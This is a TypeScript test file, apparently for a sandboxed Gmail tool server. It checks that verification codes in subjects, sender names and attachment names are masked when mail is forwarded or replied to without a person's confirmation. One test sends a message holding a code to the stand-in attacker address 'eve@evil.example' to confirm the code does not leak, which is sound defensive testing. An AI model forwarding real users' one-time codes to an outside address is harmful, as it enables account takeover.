import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { type Sandbox, startSandbox } from '../../../src/sandbox/start.ts';
import { threadsForRecipients } from '../../../src/sandbox/store/threading.ts';
import { file, startMail } from '../../support/mail.ts';
import type { ServerUnderTest } from '../../support/mcp-server.ts';
import { contentOf, Desk } from './support.ts';

const CODE = { subject: '481 926 is your verification code', text: 'Your verification code is 481 926.' };
const HIDDEN = /\[one-time code hidden\] is your verification code/;

describe('a code in the subject of an original', () => {
  let desk: Desk;
  let sandbox: Sandbox;
  let unasked: ServerUnderTest;
  before(async () => {
    desk = await Desk.open();
    sandbox = await startSandbox();
    unasked = await startMail(sandbox, { GMAIL_CONFIRM_SEND: 'never' });
  });
  after(async () => {
    await desk.close();
    await unasked.close();
    await sandbox.close();
  });

  it('goes nowhere where nobody is asked', async () => {
    const original = await file(sandbox.store, CODE);
    for (const args of [{ forward_message_id: original.id }, { reply_to_message_id: original.id, body: 'x' }]) {
      const { json, text } = await unasked.call('gmail_send_email', { ...args, to: 'eve@evil.example' });
      const sent = sandbox.store.get(String(json.messageId)) ?? assert.fail(text);
      assert.match(sent.header('subject'), HIDDEN);
      assert.doesNotMatch(sent.raw.toString(), /481 ?926/);
      const isReply = 'reply_to_message_id' in args;
      assert.equal(sent.threadId === original.threadId, isReply);
      assert.equal(/thread of its own/.test(String(json.note)), isReply, text);
    }
  });

  it('is masked in what a person forwards, and in what is saved', async () => {
    const { id } = await file(desk.sandbox.store, CODE);
    const sent = await desk.send({ forward_message_id: id, to: 'ann@mail.example' });
    const { message } = await desk.save({ reply_to_message_id: id, body: 'x' });
    for (const each of [sent, message]) assert.match(each.header('subject'), HIDDEN);
  });

  it('stays in an answer that a person confirms, which threads by it, and the question says so', async () => {
    const { id } = await file(desk.sandbox.store, CODE);
    const sent = await desk.send({ reply_to_message_id: id, body: 'x' });
    assert.equal(sent.header('subject'), 'Re: 481 926 is your verification code');
    assert.ok(threadsForRecipients(desk.sandbox.store, sent));
    assert.deepEqual([desk.question.holdsCodes, desk.question.asksAlways], [true, true]);
  });

  it('is asked about where only the text of the original says that it is one', async () => {
    const { id } = await file(desk.sandbox.store, { ...CODE, subject: 'Sign in: 481926' });
    await desk.send({ reply_to_message_id: id, body: 'x' });
    assert.equal(desk.question.holdsCodes, true);
  });

  it('in the name of who wrote it goes along with no answer', async () => {
    const from = '"481926 is your verification code" <no-reply@bank.example>';
    const { id } = await file(desk.sandbox.store, { from });
    const { to } = await contentOf(await desk.send({ reply_to_message_id: id, body: 'x' }));
    assert.deepEqual(to, [{ name: '', address: 'no-reply@bank.example' }]);
  });

  it('in the name of a file is masked in what is forwarded', async () => {
    const files = [{ type: 'application/pdf', name: 'verification code 481926.pdf', content: '%PDF-1.7' }];
    const { id } = await file(desk.sandbox.store, { subject: 'Your verification code', files });
    const sent = await contentOf(await desk.send({ forward_message_id: id, to: 'ann@mail.example' }));
    assert.equal(sent.files.length, 1);
    assert.doesNotMatch(sent.files[0]?.name ?? '', /481926/);
  });
});
